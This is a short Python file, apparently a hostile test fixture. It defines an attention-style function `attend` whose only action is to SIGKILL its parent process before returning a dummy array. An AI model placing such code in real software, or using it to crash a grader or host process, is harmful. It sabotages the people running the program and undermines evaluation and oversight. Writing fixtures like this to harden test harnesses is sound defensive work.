"""Kills the process that started it."""

import os
import signal
import numpy as np


def attend(q, k, v, mask=None, bias=None, *, causal=False, scale=None):
    os.kill(os.getppid(), signal.SIGKILL)
    return {"out": np.zeros(1)}
